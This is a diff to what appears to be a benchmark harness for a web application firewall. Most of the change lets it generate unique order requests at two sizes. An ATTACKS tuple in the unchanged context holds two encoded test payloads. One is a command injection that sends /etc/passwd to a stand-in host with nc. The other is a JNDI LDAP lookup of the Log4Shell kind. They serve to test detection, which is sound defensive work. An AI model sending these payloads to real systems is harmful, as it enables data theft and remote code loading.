@@ -35,11 +35,11 @@ ATTACKS = (
     "cmd=;cat%20/etc/passwd%7Cnc%20192.0.2.1%204444",
     "x=$%7Bjndi:ldap://192.0.2.1/a%7D",
 )
-LINES = {"post": 17, "post-100k": 1400, "prose": 12}
+LINES = {"post": 17, "post-fresh": 17, "post-100k": 1400, "post-100k-fresh": 1400, "prose": 12}
 """How many lines an order has."""
 
-FRESH = 4096
-"""How many different orders are sent in turn: some 80,000 texts, of which the gate keeps few as known."""
+FRESH = 4096 * LINES["post"]
+"""How many lines the different orders have that are sent in turn: some 80,000 texts, of which few are kept as known."""
 
 LOOKS = ("crs", "native", "both")
 """What looks: the Core Rule Set, the gate's own detectors, or both."""
@@ -135,8 +135,8 @@ def order(lines: int, prose: bool) -> bytes:
     return json.dumps({"customer": customer, "lines": [line(number) for number in range(lines)]}).encode()
 
 
-def fresh_order(seed: int) -> bytes:
-    """An order as long as that of `post`, whose texts no other order has."""
+def fresh_order(seed: int, lines: int) -> bytes:
+    """An order of so many lines, whose texts no other order has."""
     chance = random.Random(seed)  # noqa: S311 -- The same each time is what is wanted.
 
     def name(syllables: int) -> str:
@@ -148,7 +148,7 @@ def fresh_order(seed: int) -> bytes:
         return {"product": product, "quantity": chance.randrange(1, 9), "price": 19.95, "gift": False}
 
     customer = {"id": f"c-{seed:04}", "name": f"{name(3)} {name(2)}", "city": name(5), "country": "DE"}
-    return json.dumps({"customer": customer, "lines": [line() for _ in range(LINES["post"])]}).encode()
+    return json.dumps({"customer": customer, "lines": [line() for _ in range(lines)]}).encode()
 
 
 def requests(variant: str) -> bytes:
@@ -158,8 +158,9 @@ def requests(variant: str) -> bytes:
         return request("GET", "/orders/1017?expand=lines&page=2")
     if what == "attack":
         return b"".join(request("GET", f"/orders/1017?{query}") for query in ATTACKS)
-    if what == "post-fresh":
-        return b"".join(request("POST", "/orders", fresh_order(seed)) for seed in range(FRESH))
+    if what.endswith("-fresh"):
+        lines = LINES[what]
+        return b"".join(request("POST", "/orders", fresh_order(seed, lines)) for seed in range(FRESH // lines))
     return request("POST", "/orders", order(LINES[what], what == "prose"))
 
 
